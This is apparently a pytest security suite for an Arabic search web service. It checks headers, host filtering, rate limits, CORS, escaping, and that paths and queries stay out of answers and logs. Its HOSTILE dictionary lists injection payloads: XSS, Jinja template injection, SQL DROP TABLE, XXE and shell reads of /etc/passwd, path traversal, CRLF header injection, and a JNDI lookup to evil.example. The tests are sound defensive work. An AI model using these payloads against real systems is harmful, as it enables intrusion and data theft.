"""Security: headers, hosts, rates, hostile inputs, and no path of the server in any answer."""

from __future__ import annotations

import logging
from pathlib import Path
from urllib.parse import quote

import pytest
from starlette.testclient import TestClient
from web_clients import Connect  # skips without the extra

import arsearch
from arsearch.web.security import HEADERS, Buckets, host_allowed

PATHS = ("/", "/nothing", "/api/search?q=كتاب", "/api/search?limit=x", "/api/nothing", "/api/articles/nothing")


def test_every_answer_has_the_headers_of_security(client: TestClient) -> None:
    for path in PATHS:
        headers = client.get(path).headers
        assert {name: headers[name] for name in HEADERS} == dict(HEADERS), path
        assert "server" not in headers


def test_the_policy_allows_no_inline_code() -> None:
    policy = HEADERS["Content-Security-Policy"]

    assert policy.startswith("default-src 'none'")
    assert "unsafe" not in policy
    assert "*" not in policy


@pytest.mark.parametrize(
    ("header", "allowed", "expected"),
    [
        ("localhost", ["localhost"], True),
        ("LOCALHOST:8000", ["localhost"], True),
        ("127.0.0.1:8000", ["127.0.0.1"], True),
        ("[::1]:8000", ["::1"], True),
        ("[::1]", ["[::1]"], True),
        ("evil.example", ["localhost"], False),
        ("localhost.evil.example", ["localhost"], False),
        ("evil.example:localhost", ["localhost"], False),
        ("", ["localhost"], False),
        ("", [""], False),
        ("a.example.org", ["*.example.org"], True),
        ("a.b.example.org:1", ["*.example.org"], True),
        ("example.org", ["*.example.org"], False),
        (".example.org", ["*.example.org"], False),
        ("evilexample.org", ["*.example.org"], False),
        ("anything", ["*"], True),
    ],
)
def test_a_host_is_allowed_by_name(header: str, allowed: list[str], expected: bool) -> None:
    assert host_allowed(header, allowed) is expected


def test_a_request_for_another_host_is_refused(index: arsearch.Index, connect: Connect) -> None:
    client = connect(index, allowed_hosts=("testserver",))

    assert client.get("/api/health").status_code == 200
    for path in PATHS:
        assert client.get(path, headers={"Host": "evil.example"}).status_code == 400


def test_a_bucket_fills_at_its_rate() -> None:
    now = [0.0]
    buckets = Buckets(rate=2, burst=3, clock=lambda: now[0])

    assert [buckets.take("a") for _ in range(4)] == [0, 0, 0, 0.5]
    assert buckets.take("b") == 0
    now[0] = 1.0
    assert [buckets.take("a") for _ in range(3)] == [0, 0, 0.5]
    now[0] = 1000.0
    assert [buckets.take("a") for _ in range(4)] == [0, 0, 0, 0.5]


def test_the_buckets_of_many_clients_take_bounded_memory() -> None:
    buckets = Buckets(rate=1, burst=1)
    for number in range(10_050):
        buckets.take(str(number))

    assert len(buckets._levels) == 10_000


def test_a_client_that_is_too_fast_is_told_when_to_come_back(index: arsearch.Index, connect: Connect) -> None:
    client = connect(index, rate=0.5, burst=2)
    answers = [client.get("/api/health") for _ in range(3)]

    assert [answer.status_code for answer in answers] == [200, 200, 429]
    assert answers[2].headers["retry-after"] == "2"


def test_other_sites_may_not_read_the_api_unless_they_are_named(index: arsearch.Index, connect: Connect) -> None:
    origin = {"Origin": "https://other.example"}

    assert "access-control-allow-origin" not in connect(index).get("/api/stats", headers=origin).headers
    named = connect(index, origins=("https://other.example",))
    assert named.get("/api/stats", headers=origin).headers["access-control-allow-origin"] == "https://other.example"
    assert "access-control-allow-origin" not in named.get("/api/stats", headers={"Origin": "https://x.example"}).headers


NAMES = (
    "i", "page", "limit", "offset", "f.source", "f.date", "f.id", "not.tags", "from", "to", "sort", "match", "mode", "facets",
    "collapse", "recency", "cursor", "fields", "did_you_mean",
)  # fmt: skip

# After the categories of OWASP's Web Security Testing Guide, chapter "Input Validation Testing".
HOSTILE = {
    "cross-site scripting": "<script>alert(1)</script>",
    "attribute": '" onmouseover="alert(1)',
    "attribute, single": "' onfocus='alert(1)' autofocus='",
    "image": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)>",
    "url scheme": "javascript:alert(1)",
    "end of a script": "</script><script>alert(1)</script>",
    "end of a title": "</title><script>alert(1)</script>",
    "comment": "<!--><script>alert(1)</script>",
    "template, Jinja": "{{7*7}}{% for c in ().__class__.__base__.__subclasses__() %}{{c}}{% endfor %}",
    "template, other": "${7*7}#{7*7}<%= 7*7 %>",
    "SQL": "' OR '1'='1'; DROP TABLE articles;--",
    "NoSQL": '{"$gt": ""}',
    "LDAP": "*)(uid=*))(|(uid=*",
    "XPath": "' or count(/*)=1 or '",
    "XML entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "shell": "; cat /etc/passwd | sh `id` $(id)",
    "path": "../../../../etc/passwd",
    "path, encoded twice": "%252e%252e%252fetc%252fpasswd",
    "path, Windows": "..\\..\\windows\\win.ini",
    "null": "a\0b",
    "line ends": "a\r\nSet-Cookie: stolen=1\r\n\r\n<html>",
    "format string": "%s%s%s%n%x",
    "log": "${jndi:ldap://evil.example/a}",
    "formula": "=HYPERLINK(\"http://evil.example\")",
    "bidi": "\u202eabc\u2066\u2069",
    "zalgo": "ا" + "\u064b\u0651\u0650" * 300,
    "many quotes": '"' * 900,
    "many brackets": "(" * 900,
    "many operators": "OR AND NOT - + ~ ^ * ? : " * 30,
    "deep nesting": "(ا " * 300,
    "all words": "*",
    "patterns": "*ا* *ب* *ت* *ث* ?????? *" * 20,
    "misspellings": " ".join(["الكتاب~2"] * 100),
    "proximity": '"ا ب"~99999999999',
    "boost": "كتاب^1e999 كتاب^-5",
    "field": "__class__:x body:*:*",
    "date": "date:99999999..99999999 date:-1",
    "number": "9" * 900,
    "astral": "\U0001f600" * 300 + "\U000e0041" * 300,
    "private use": "\ue000\uffff\ufdd0",
}  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_query_is_answered(shared_client: TestClient, text: str) -> None:
    value = quote(text)
    for path in (
        f"/api/search?q={value}&did_you_mean=1",
        f"/api/suggest?q={value}",
        f"/api/explain?id=news-001&q={value}",
        f"/api/passages?q={value}",
        f"/api/concordance?q={value}",
        f"/api/frequencies?q={value}&by=source",
        f"/?q={value}",
        f"/concordance?q={value}",
        f"/frequencies?q={value}",
    ):
        response = shared_client.get(path)
        assert response.status_code in (200, 400), (path, response.text[:200])
        assert "root:" not in response.text


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_value_of_another_parameter_is_answered(shared_client: TestClient, text: str) -> None:
    value = quote(text[:400])
    for path in (
        *(f"/api/search?q=كتاب&{name}={value}" for name in (*NAMES, f"f.{value[:90]}", value[:100])),
        *(f"/api/passages?q=كتاب&{name}={value}" for name in ("limit", "size", "overlap", "mode", "match", "f.date")),
        *(
            f"{path}?q=كتاب&{name}={value}"
            for path in ("/api/concordance", "/api/frequencies", "/concordance", "/frequencies")
            for name in ("limit", "page", "sort", "width", "by", "match", "from", "f.source")
        ),
        f"/api/articles/{value}",
        f"/api/similar?id={value}",
        f"/{value}",
    ):  # fmt: skip
        response = shared_client.get(path, headers={"If-None-Match": quote(text)})
        assert response.status_code in (200, 400, 404), (path, response.text[:200])
        assert "set-cookie" not in response.headers


def test_json_answers_are_no_pages(client: TestClient) -> None:
    response = client.get("/api/search", params={"q": "<script>alert(1)</script>"})

    assert response.headers["content-type"] == "application/json"
    assert response.headers["x-content-type-options"] == "nosniff"


def test_snippets_escape_all_but_their_marks(index: arsearch.Index, connect: Connect) -> None:
    index.add([{"id": "evil", "title": "<script>كتاب</script>", "body": "<img src=x onerror=alert(1)> كتاب"}])
    hits = connect(index).get("/api/search", params={"q": "كتاب", "f.id": "evil"}).json()["hits"]

    assert hits[0]["title_html"] == "&lt;script&gt;<mark>كتاب</mark>&lt;/script&gt;"
    assert "<img" not in hits[0]["snippet"]["html"]


def test_no_answer_names_a_path_of_the_server(tmp_path: Path, connect: Connect, token: str) -> None:
    location = tmp_path / "very-secret"
    arsearch.open(location, create=True).close()
    client = connect({"a": str(location), "b": str(tmp_path / "secret-too")}, tokens=(token,))
    signed = {"Authorization": f"Bearer {token}", "Content-Type": "application/jsonl"}
    for name in "ab":
        for path in ("search?q=ا", "suggest?q=ا", "passages?q=ا", "concordance?q=ا", "frequencies?q=ا&by=z",
                     "similar?id=x", "explain?id=x&q=x", "articles/x", "stats", "health",
                     "metrics", "search?q=x&sort=y", "search?q=x&f.z=1", "search?limit=x", "openapi.json"):  # fmt: skip
            separator = "&" if "?" in path else "?"
            assert "secret" not in client.get(f"/api/{path}{separator}i={name}").text, path
        assert "secret" not in client.post(f"/api/articles?i={name}", content=b"{}", headers=signed).text
        assert "secret" not in client.delete(f"/api/articles/x?i={name}", headers=signed).text
    for segment in location.glob("manifest-*"):
        segment.write_bytes(b"damaged")
    damaged = connect(str(location)).get("/api/search?q=ا")
    assert damaged.status_code == 503
    assert "secret" not in damaged.text


def test_the_log_has_no_words_of_searches_unless_it_should(
    index: arsearch.Index, connect: Connect, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO, "arsearch.web.access")
    connect(index).get("/api/search?q=private")
    assert caplog.text == ""
    connect(index, access_log="paths").get("/api/search?q=private")
    assert "GET /api/search 200" in caplog.text
    assert "private" not in caplog.text
    connect(index, access_log="queries").get("/api/search?q=private")
    assert "GET /api/search?q=private 200" in caplog.text


def test_a_path_cannot_forge_a_line_of_the_log(
    index: arsearch.Index, connect: Connect, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO, "arsearch.web.access")
    connect(index, access_log="queries").get("/x%0a%0dFORGED?q=%0aFORGED")

    assert len(caplog.messages) == 1
    assert "\n" not in caplog.messages[0]
    assert "\r" not in caplog.messages[0]
